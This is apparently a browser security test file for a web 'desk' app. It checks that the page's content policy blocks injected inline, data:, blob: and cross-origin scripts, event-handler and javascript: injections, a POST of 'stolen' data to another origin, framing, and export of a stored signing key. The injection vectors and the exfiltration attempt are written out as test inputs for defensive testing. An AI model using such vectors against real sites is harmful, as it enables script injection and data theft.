import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, openDesk, sharedTest as test } from './fixtures.ts'

/** What a script that ran would have left behind; each way of getting one in has its own name. */
declare global {
  interface Window {
    ran?: string[]
  }
}

test('[S-54] a script that gets into the page does not run, whichever way it came', async ({ browser, server }) => {
  const foreign = createServer((_request, response) => {
    response.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' })
    response.end('(window.ran ??= []).push("from another origin")')
  }).listen(0, '127.0.0.1')
  await once(foreign, 'listening')
  const { port } = foreign.address() as AddressInfo
  const desk = await openDesk(browser, server.url)
  await desk.signIn('agent01')
  const refused: string[] = []
  await desk.page.exposeFunction('onRefused', (directive: string) => refused.push(directive))
  await desk.page.evaluate(async (origin) => {
    const onRefused = Reflect.get(window, 'onRefused') as (directive: string) => void
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => onRefused(effectiveDirective))
    const run = (how: string) => `(window.ran ??= []).push(${JSON.stringify(how)})`

    const inline = document.createElement('script')
    inline.textContent = run('inline script')
    const external = document.createElement('script')
    external.src = `${origin}/evil.js`
    const data = document.createElement('script')
    data.src = `data:text/javascript,${encodeURIComponent(run('data: script'))}`
    const blob = document.createElement('script')
    blob.src = URL.createObjectURL(new Blob([run('blob: script')], { type: 'text/javascript' }))
    document.body.append(inline, external, data, blob)

    const holder = document.createElement('div')
    holder.innerHTML = `<img src="/no-such-picture" onerror='${run('event handler attribute')}'>
      <a id="trap" href='javascript:${run('javascript: address')}'>trap</a><svg onload='${run('svg handler')}'></svg>`
    document.body.append(holder)
    holder.querySelector('a')?.click()

    // Code from strings is left out: what a test evaluates is exempt from that part of a page's policy.
    await import(`${origin}/evil.js`).catch(() => undefined)
  }, `http://127.0.0.1:${port}`)

  await expect.poll(() => new Set(refused)).toContain('script-src-elem')
  await expect.poll(() => new Set(refused)).toContain('script-src-attr')
  // Every attempt was answered by now: the last of them, an import from elsewhere, waited for its refusal.
  expect(await desk.page.evaluate(() => window.ran ?? [])).toEqual([])
  await expect(desk.state).toContainText('Not ready')
  foreign.close()
})

test('[S-54] nothing can be sent to another origin, and no page can frame the desk', async ({ browser, server }) => {
  const desk = await openDesk(browser, server.url)
  await desk.signIn('agent02')
  const sent = await desk.page.evaluate(() =>
    fetch('http://127.0.0.1:9/stolen', { method: 'POST', mode: 'no-cors', body: 'x' }).then(
      () => 'sent',
      () => 'refused',
    ),
  )
  expect(sent).toBe('refused')
  const { headers } = await fetch(server.url)
  expect(headers.get('content-security-policy')).toContain("frame-ancestors 'none'")
})

test('[S-54] the device key can sign, and cannot be taken out of the browser', async ({ browser, server }) => {
  const desk = await openDesk(browser, server.url)
  await desk.signIn('agent03')
  const outcome = await desk.page.evaluate(async () => {
    const database = await new Promise<IDBDatabase>((resolve) => {
      const opening = indexedDB.open('hotseat')
      opening.onsuccess = () => resolve(opening.result)
    })
    const rows = await new Promise<unknown[]>((resolve) => {
      const reading = database.transaction('kept').objectStore('kept').getAll()
      reading.onsuccess = () => resolve(reading.result)
    })
    const pair = rows.find((row): row is CryptoKeyPair => typeof row === 'object' && row !== null && 'privateKey' in row)
    if (pair === undefined) return ['no key found']
    const tries = (['jwk', 'pkcs8'] as const).map((format) =>
      crypto.subtle.exportKey(format, pair.privateKey).then(
        () => 'exported',
        () => 'refused',
      ),
    )
    const algorithm = { name: 'ECDSA', hash: 'SHA-256' }
    const signature = await crypto.subtle.sign(algorithm, pair.privateKey, new Uint8Array([1]))
    return [...(await Promise.all(tries)), pair.privateKey.extractable, signature.byteLength]
  })
  expect(outcome).toEqual(['refused', 'refused', false, 64])
})
